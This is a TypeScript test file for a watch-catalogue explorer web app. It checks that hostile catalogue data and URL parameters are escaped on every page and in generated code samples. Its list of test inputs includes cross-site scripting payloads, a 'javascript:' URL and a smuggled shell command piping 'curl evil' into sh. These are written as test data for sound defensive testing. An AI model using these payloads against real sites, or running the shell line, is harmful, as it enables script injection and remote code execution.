// Tests the explorer with a malicious catalogue: names, keys and values that are markup, quotes, control characters or
// longer than a query may be. All of it is escaped, and every link finds the watch it came from.
import { beforeAll, describe, expect, test } from 'vitest'
import { parseConfig } from '../../src/config.ts'
import { openLog } from '../../src/log.ts'
import { type RunningServer, startServer } from '../../src/server.ts'
import { openDatabase } from '../../src/storage/open-database.ts'
import { createEngine } from '../databases/engines.ts'
import { manualClock } from '../manual-clock.ts'
import { hostileKeys, knownValues } from '../search/hostile-values.ts'
import { storeCatalogue } from '../search/stored-catalogue.ts'
import { addressIn, callOf, expectWhole, hrefsOf, openPage, totalOf } from './explore-page.ts'

const markup = [
  `</script><img src=x onerror="alert('1')">`,
  `" onmouseover="alert(1)`,
  `' onfocus='alert(1)' autofocus='`,
  '&lt;b&gt; &amp; <b>',
  'javascript:alert(1)',
  '`$\u007balert(1)}`',
  `'; curl evil | sh; '`,
  '\\',
  '<!--',
  '\u202eevil',
  'x'.repeat(600),
  '\ud800',
]
const keys = [...hostileKeys, ...markup]
const values: unknown[] = [...knownValues, ...markup, markup, { a: '<b>' }, [['<i>', 1e21]], null]

const brands = [...markup.slice(0, 9), 'Omega'].map((name, at) => ({
  name,
  slug: at % 2 === 0 ? `brand-${at}` : `sl"ug<${at}>/?#%`,
  aliases: [markup[at % markup.length] ?? ''],
}))

/** Uses every value under some key, and every key with some value. */
const watches = Array.from({ length: Math.max(keys.length, values.length) }, (_, at) => ({
  brand: at,
  step: 1 + (at % 3),
  collection: String(markup[at % markup.length]).toWellFormed(),
  reference_number: String(markup[(at + 3) % markup.length]).toWellFormed(),
  retail_price_usd: at % 4 === 0 ? null : 1e300 / (at + 1) ** 100,
  current_market_price: at % 3 === 0 ? null : 0.1 * at,
  specs: JSON.stringify(
    Object.fromEntries([
      ...[0, 7, 19].map((step) => [
        keys[(at + step) % keys.length] as string,
        values[(at * 3 + step) % values.length],
      ]),
      ['dial_color', values[at % values.length]],
    ]),
  ),
  updated_at: '2026-03-01T00:00:00.000Z',
}))

let server: RunningServer
const engine = createEngine()

beforeAll(async () => {
  const config = parseConfig({
    ...(await engine.settings('migrated')),
    LOG_LEVEL: 'silent',
    PORT: '0',
    DRAIN_MS: '0',
    BURST_LIMIT: '0',
    SAMPLE_CATALOGUE: 'false',
  })
  const database = await openDatabase(config, openLog(config))
  await storeCatalogue(database, { brands, watches })
  await database.write((tx) => tx.updateTable('brands').set({ website: 'javascript:alert(1)' }).execute())
  await database.close()
  server = await startServer(config, openLog(config), manualClock())
  return () => server.close()
})

const ids = watches.map(
  (
    (id) =>
    ({ step }) =>
      (id += step)
  )(0),
)
const open = (path: string) => openPage(server.baseUrl, path)

async function expectHarmless(path: string) {
  const page = await open(path)
  expect([path, page.status]).toEqual([path, 200])
  expectWhole(page)
  expect(page.html).not.toMatch(/<img|<b>|<i>|<!--|<script(?! type="module" src="\/assets)/i)
  return page
}

describe('a hostile catalogue', () => {
  test('is escaped on every page of a watch, and every value links back to it', async () => {
    let followed = 0
    for (const id of ids) {
      const { html } = await expectHarmless(`/explore/watches/${id}`)
      for (const href of hrefsOf(html).filter((link) => link.startsWith('/explore?'))) {
        const page = await expectHarmless(`${href}&ids=${id}`)
        expect([href, totalOf(page)]).toEqual([href, 1])
        followed++
      }
    }
    expect(followed).toBeGreaterThan(ids.length * 3)
  })

  test('is listed page by page, and every link of it works', async () => {
    const seen = new Set<string>()
    for (const path of [
      '/explore',
      '/explore?page=2&sort=-brand',
      '/explore/brands',
      `/explore/compare?ids=${ids.slice(0, 4)}`,
    ]) {
      const { html } = await expectHarmless(path)
      for (const href of hrefsOf(html)) if (href.startsWith('/explore')) seen.add(href)
    }
    expect(seen.size).toBeGreaterThan(100)
    for (const href of seen) await expectHarmless(href)
  })

  test('appears in code samples correctly quoted', async () => {
    for (const value of markup.filter((text) => text.isWellFormed() && text.length < 513)) {
      const page = await open(`/explore?${new URLSearchParams({ 'spec[dial_color]': value })}`)
      expect(page.status).toBe(200)
      for (const language of ['curl', 'ts', 'py'] as const) {
        const code = callOf(page, language)
        const address = addressIn(code)
        expect(code).toContain(`'${address}'`)
        expect(address).toMatch(/^[\w.~:/?[\]&,=%()*!-]+$/)
        const [parameter = ''] = new URL(address).search.slice(1).split('&')
        expect(decodeURIComponent(parameter)).toBe(`spec[dial_color]=${value}`)
      }
    }
  })

  test('has no website link that runs a script', async () => {
    for (const { slug } of brands) {
      const { html } = await expectHarmless(`/explore/brands/${encodeURIComponent(slug)}`)
      expect(hrefsOf(html).filter((href) => !/^(\/(?!\/)|#)/.test(href))).toEqual([])
    }
  })
})

test('whatever is in a URL is escaped', async () => {
  for (const text of markup.filter((one) => one.isWellFormed())) {
    const written = encodeURIComponent(text)
    for (const path of [
      `/explore?q=${written}`,
      `/explore?spec[${written}]=${written}&sort=brand`,
      `/explore?spec[${written}][${written}]=1`,
      `/explore?page=${written}&brand=${written}`,
      `/explore/brands?q=${written}`,
      `/explore/brands/${written}`,
      `/explore/watches/${written}`,
      `/explore/compare?ids=${written}`,
    ]) {
      const page = await open(path)
      expect([path, [200, 303, 404, 422].includes(page.status)]).toEqual([path, true])
      if (page.status !== 303) expectWhole(page)
      expect(page.html).not.toMatch(/<img|<b>|<!--/i)
    }
  }
})
